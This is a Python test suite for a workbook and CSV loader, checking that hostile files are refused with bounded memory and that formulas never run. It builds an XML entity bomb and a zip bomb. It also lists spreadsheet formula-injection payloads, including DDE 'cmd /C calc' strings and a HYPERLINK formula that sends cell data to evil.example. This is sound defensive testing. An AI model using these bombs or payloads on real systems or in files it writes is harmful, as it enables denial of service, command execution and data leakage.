"""Hostile workbooks are refused quickly with bounded memory; nothing in a file is ever run."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import xml as openpyxl_xml

from promis_analytics import export, safety
from promis_analytics.errors import RegisterError
from promis_analytics.registers import load

MEMORY_LIMIT_MB = 300
HEADER = ["fact_id", "metric", "value", "unit", "source", "locator"]
ROW = ["F1", "projects", 18, "count", "results_brochure_2021", "s3"]

# Peak memory of the child itself: VmHWM of its own address space. (ru_maxrss is not used
# on Linux: it keeps the high-water mark of the parent's address space across vfork + exec,
# so under a large pytest process it reports the parent's memory.)
CHILD = """
import json, resource, sys
from promis_analytics.registers import load
r = load(sys.argv[1], sys.argv[2], strict=False).report
try:
    with open("/proc/self/status") as fh:
        hwm = next(int(line.split()[1]) for line in fh if line.startswith("VmHWM:"))
except OSError:
    hwm = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({
    "problems": [[e.code, e.problem("en"), e.problem("uk")] for e in r.errors],
    "accepted": r.accepted,
    "maxrss_mb": hwm / 1024,
}))
"""


def load_isolated(kind: str, path: Path) -> dict:
    """Load ``path`` in a fresh interpreter; its problems and peak resident memory (MB)."""
    out = subprocess.run(
        [sys.executable, "-c", CHILD, kind, str(path)],
        capture_output=True,
        text=True,
        timeout=300,  # a guard against hangs, not a performance assertion
        check=False,
    )
    assert out.returncode == 0, out.stderr[-2000:]
    return json.loads(out.stdout.strip().splitlines()[-1])


def base_workbook(path: Path, extra: dict[str, str] | None = None) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Факти"
    ws.append(HEADER)
    ws.append(ROW)
    for ref, v in (extra or {}).items():
        ws[ref] = v
    wb.save(path)
    return path


def rewrite(src: Path, dst: Path, member: str, fn) -> Path:
    """Copy a workbook, passing the bytes of ``member`` through ``fn``."""
    with zipfile.ZipFile(src) as zi, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zo:
        for info in zi.infolist():
            data = zi.read(info.filename)
            zo.writestr(info, fn(data) if info.filename == member else data)
    return dst


LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>\n"
)


def test_defusedxml_is_active() -> None:
    assert openpyxl_xml.DEFUSEDXML is True


@pytest.mark.parametrize(
    "member", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml"]
)
def test_entity_expansion_is_refused_clearly(tmp_path: Path, member: str) -> None:
    def bomb(data: bytes) -> bytes:
        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
        body = body.replace(b"<t>projects</t>", b"<t>&lol9;</t>")  # used in a cell too
        return LAUGHS + body

    base = base_workbook(tmp_path / "base.xlsx")
    p = rewrite(base, tmp_path / "facts.xlsx", member, bomb)
    res = load_isolated("facts", p)
    assert len(res["problems"]) == 1, res
    [(code, en, uk)] = res["problems"]
    assert code == "file_error", res
    assert f"part {member} declares a DTD or XML entities" in en, res
    assert "сутност" in uk
    assert res["maxrss_mb"] < MEMORY_LIMIT_MB, res


def test_zip_bomb_is_refused_with_bounded_memory(tmp_path: Path) -> None:
    """A 200 MB sheet part of zeros compressed about 1000:1 into 0.2 MB."""
    base = base_workbook(tmp_path / "base.xlsx")
    p = tmp_path / "facts.xlsx"
    with (
        zipfile.ZipFile(base) as zi,
        zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zo,
    ):
        for info in zi.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with zo.open(info.filename, "w", force_zip64=True) as fh:
                    chunk = b"\x00" * (1024 * 1024)
                    for _ in range(200):
                        fh.write(chunk)
            else:
                zo.writestr(info, zi.read(info.filename))
    assert p.stat().st_size < 1024 * 1024
    res = load_isolated("facts", p)
    [(code, en, _uk)] = res["problems"]
    assert code == "file_error" and "refused" in en
    assert "expands" in en
    assert res["maxrss_mb"] < MEMORY_LIMIT_MB


@pytest.mark.parametrize("keep_dimension", [True, False])
def test_last_cell_at_xfd1048576_is_refused_with_bounded_memory(
    tmp_path: Path, keep_dimension: bool
) -> None:
    """With or without a <dimension> element (without one, calamine used to abort the process
    trying to allocate 512 GiB for the grid)."""
    import re

    base = base_workbook(tmp_path / "base.xlsx", {"XFD1048576": "x"})
    p = rewrite(
        base,
        tmp_path / "facts.xlsx",
        "xl/worksheets/sheet1.xml",
        (lambda d: d) if keep_dimension else (lambda d: re.sub(rb"<dimension[^>]*/>", b"", d)),
    )
    res = load_isolated("facts", p)
    [(code, en, uk)] = res["problems"]
    assert code == "file_error"
    assert "too large (1048576 rows × 16384 columns)" in en
    assert "1048576 рядків × 16384 стовпців" in uk
    assert res["maxrss_mb"] < MEMORY_LIMIT_MB


def test_oversized_workbook_file_is_refused(tmp_path: Path, monkeypatch) -> None:
    p = base_workbook(tmp_path / "facts.xlsx")
    monkeypatch.setattr(safety, "MAX_WORKBOOK_BYTES", 1000)
    with pytest.raises(RegisterError, match=r"workbook file too large \(\d+ bytes > 1000\)"):
        load("facts", p)


def test_workbook_with_too_many_parts_is_refused(tmp_path: Path, monkeypatch) -> None:
    p = base_workbook(tmp_path / "facts.xlsx")
    monkeypatch.setattr(safety, "MAX_MEMBERS", 3)
    with pytest.raises(RegisterError, match=r"workbook has 9 parts \(limit 3\)"):
        load("facts", p)


def test_macro_workbook_is_read_values_only_and_left_unchanged(tmp_path: Path) -> None:
    """An .xlsm with a VBA part: cell values are read, the file is never modified or run."""
    from bad_inputs.cases import CASES

    case = next(c for c in CASES if c.id == "xlsm_macros")
    p = case.build(tmp_path)
    before = p.read_bytes()
    with zipfile.ZipFile(p) as z:
        assert "xl/vbaProject.bin" in z.namelist()
    reg = load("events", p, strict=False)
    assert reg.report.accepted == 1 and reg.data["event_id"].tolist() == ["E1"]
    assert p.read_bytes() == before
    assert sorted(x.name for x in tmp_path.iterdir()) == ["events.xlsm"]  # nothing written


def test_formula_with_cached_value_is_never_evaluated(tmp_path: Path) -> None:
    """Excel's cached result is read (here a deliberately wrong 3 for =1+1); no formula runs."""
    base = base_workbook(tmp_path / "base.xlsx", {"C2": "=1+1"})
    p = rewrite(
        base,
        tmp_path / "facts.xlsx",
        "xl/worksheets/sheet1.xml",
        lambda d: re.sub(rb"<f>1\+1</f><v\s*/>|<f>1\+1</f><v></v>", b"<f>1+1</f><v>3</v>", d),
    )
    assert load("facts", p).data["value"].tolist() == [3]


@pytest.mark.parametrize(
    "attack",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?x="&A1,"Деталі")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C notepad'!A0",
        '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    ],
)
def test_formula_text_in_a_register_round_trips_as_text(tmp_path: Path, attack: str) -> None:
    """Text that looks like a formula is loaded as text and written back neutralised."""
    src = tmp_path / "facts.csv"
    export.write(
        pd.DataFrame([["F1", attack, 18, "count", "results_brochure_2021", "s3"]], columns=HEADER),
        src,
    )
    assert src.read_text(encoding="utf-8").splitlines()[1].split(",", 2)[1].startswith(("'", '"'))
    data = load("facts", src).data
    assert data.loc[0, "metric"] == attack
    out = tmp_path / "facts_out.xlsx"
    export.write(data, out)
    ws = openpyxl.load_workbook(out).active
    col = [c.value for c in ws[1]].index("metric") + 1
    cell = ws.cell(row=2, column=col)
    assert cell.data_type == "s" and cell.value == "'" + attack


def test_oversized_csv_is_refused_before_reading(tmp_path: Path, monkeypatch) -> None:
    from promis_analytics.registers.io import limits

    p = tmp_path / "facts.csv"
    p.write_text(",".join(HEADER) + "\n" + "F1,projects,18,count,s,l\n" * 100, encoding="utf-8")
    monkeypatch.setattr(limits, "MAX_CSV_BYTES", 1000)
    with pytest.raises(RegisterError, match=r"file too large \(\d+ bytes > 1000[;)]"):
        load("facts", p)


def test_csv_with_a_giant_quoted_field_is_a_clear_problem(tmp_path: Path) -> None:
    """A stray quote near the top of a long file: one field larger than the csv limit."""
    p = tmp_path / "facts.csv"
    body = "".join(f"F{i},projects,{i},count,s,l\n" for i in range(8000))
    p.write_text(",".join(HEADER) + '\nF0,"projects,1,count,s,l\n' + body, encoding="utf-8")
    r = load("facts", p, strict=False).report
    [e] = r.errors
    assert e.code == "file_error" and r.balanced
    assert e.problem("en") == (
        "cannot read the file: CSV structure error in record 2 (file line 2): field larger than"
        " field limit (131072); a quote opened there is probably never closed"
    )
    assert e.expected("en") == "balanced quotes or none"
    assert "рядок файлу 2" in e.problem("uk")


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.text(alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZ", min_size=1, max_size=4),
            st.integers(1, 1_048_576),
            st.sampled_from(["", ' s="3"', ' t="s"']),
        ),
        max_size=30,
    )
)
def test_the_last_column_is_the_greatest_reference(cells) -> None:
    """The column search that looks only beyond the last column seen finds what reading
    every reference would: the greatest (letters compared as Excel numbers them)."""
    from promis_analytics.safety import _col_number, _last_column

    xml = b"".join(f'<c{attr} r="{col}{row}"><v>1</v></c>'.encode() for col, row, attr in cells)
    every = re.findall(rb'<c\b[^>]*?\br="([A-Z]{1,4})\d', xml)
    assert _col_number(_last_column(xml, b"")) == max(map(_col_number, every), default=0)


@given(st.lists(st.text("ABCXYZ", min_size=1, max_size=3), min_size=1, max_size=30))
def test_last_column_is_the_latest_reference(columns: list[str]) -> None:
    """The fast pass (``_maybe_later``) never hides a later column: the last column of the
    sheet XML, part by part, is the latest of the references."""
    refs = [f'<c r="{c}{k + 1}" t="s"><v>0</v></c>'.encode() for k, c in enumerate(columns)]
    letters = b""
    for k in range(0, len(refs), 4):
        letters = safety._last_column(b"".join(refs[k : k + 4]), letters)
    assert letters.decode() == max(columns, key=lambda c: (len(c), c))
